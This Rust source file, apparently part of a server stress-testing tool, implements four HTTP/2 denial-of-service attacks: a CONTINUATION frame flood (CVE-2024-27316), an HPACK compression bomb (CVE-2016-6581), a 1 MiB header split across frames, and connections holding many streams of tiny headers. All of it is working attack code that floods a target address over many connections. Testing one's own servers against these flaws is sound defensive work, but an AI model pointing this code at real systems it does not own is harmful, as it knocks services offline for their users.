//! Heads of calls that never end, or grow.

use std::net::SocketAddr;

use anyhow::{Result, ensure};

use super::{PATIENCE, TIME};
use crate::ask::LEGAL_PLAYS;
use crate::frames::{END_HEADERS, END_STREAM, Kind, Raw, frame, head, text, within};

/// A head that goes on and on (CVE-2024-27316).
pub(super) async fn continuation(address: SocketAddr) -> Result<String> {
    let until = within(TIME);
    let field = [&[0][..], &text("x-more"), &text(&"y".repeat(1_000))].concat();
    let more: Vec<u8> = (0..100).flat_map(|_| frame(Kind::Continuation, 0, 1, &field)).collect();
    let (mut connections, mut bytes) = (0, 0);
    while tokio::time::Instant::now() < until && connections < 200 {
        let mut raw = Raw::open(address, &[]).await?.draining();
        connections += 1;
        raw.send(&frame(Kind::Headers, 0, 1, &head(LEGAL_PLAYS, &[])), until).await;
        for _ in 0..1_000 {
            if !raw.send(&more, until).await {
                break;
            }
            bytes += more.len();
        }
    }
    Ok(format!("{} KiB of heads on {connections} connections", bytes / 1024))
}

/// A header of 4 KB in the table, then heads of which each byte means that header (CVE-2016-6581).
pub(super) async fn hpack_bomb(address: SocketAddr) -> Result<String> {
    let until = within(TIME);
    let flags = END_HEADERS | END_STREAM;
    // With incremental indexing: it becomes entry 62.
    let stored = [&[0x40][..], &text("x-bomb"), &text(&"z".repeat(3_900))].concat();
    let first = frame(Kind::Headers, flags, 1, &[head(LEGAL_PLAYS, &[]), stored].concat());
    let bomb = [head(LEGAL_PLAYS, &[]), vec![0x80 | 62; 12_000]].concat();
    let mut heads = 0;
    let mut connections = 0;
    while tokio::time::Instant::now() < until && connections < 100 {
        let mut raw = Raw::open(address, &[]).await?.draining();
        connections += 1;
        raw.send(&first, until).await;
        for number in 1..200 {
            if !raw.send(&frame(Kind::Headers, flags, number * 2 + 1, &bomb), until).await {
                break;
            }
            heads += 1;
        }
    }
    Ok(format!("{heads} heads of 12,000 references to 4 KB each, on {connections} connections"))
}

/// One header of a megabyte.
pub(super) async fn huge(address: SocketAddr) -> Result<String> {
    let until = within(TIME);
    let block = head(LEGAL_PLAYS, &[("x-huge", &"h".repeat(1 << 20))]);
    let mut parts = block.chunks(16_000);
    let first = parts.next().unwrap_or_default();
    let mut bytes = frame(Kind::Headers, 0, 1, first);
    for part in parts {
        bytes.extend(frame(Kind::Continuation, 0, 1, part));
    }
    bytes.extend(frame(Kind::Continuation, END_HEADERS, 1, &[]));
    let mut taken = 0;
    for _ in 0..50 {
        let mut raw = Raw::open(address, &[]).await?.draining();
        taken += usize::from(raw.send(&bytes, until).await);
    }
    Ok(format!("50 headers of 1 MiB, {taken} sent whole"))
}

/// Calls of four hundred tiny headers each, in as many bytes as may be, that never go on: in memory such a head is many times
/// what it is on the wire.
pub(super) async fn many_held(address: SocketAddr) -> Result<String> {
    const CONNECTIONS: usize = 80;
    const CALLS: u32 = 100;
    let until = within(PATIENCE);
    let tiny: Vec<u8> =
        (0..400).flat_map(|n| [&[0][..], &text(&format!("h{n}")), &text("")].concat()).collect();
    let block = [head(LEGAL_PLAYS, &[]), tiny].concat();
    let opened: Vec<u8> =
        (0..CALLS).flat_map(|n| frame(Kind::Headers, END_HEADERS, n * 2 + 1, &block)).collect();
    let mut held = Vec::new();
    for _ in 0..CONNECTIONS {
        let mut raw = Raw::open(address, &[]).await?.draining();
        ensure!(raw.send(&opened, until).await, "a connection was lost");
        held.push(raw);
    }
    tokio::time::sleep(TIME).await;
    Ok(format!("{} calls of {} bytes of headers, held", CONNECTIONS * CALLS as usize, block.len()))
}
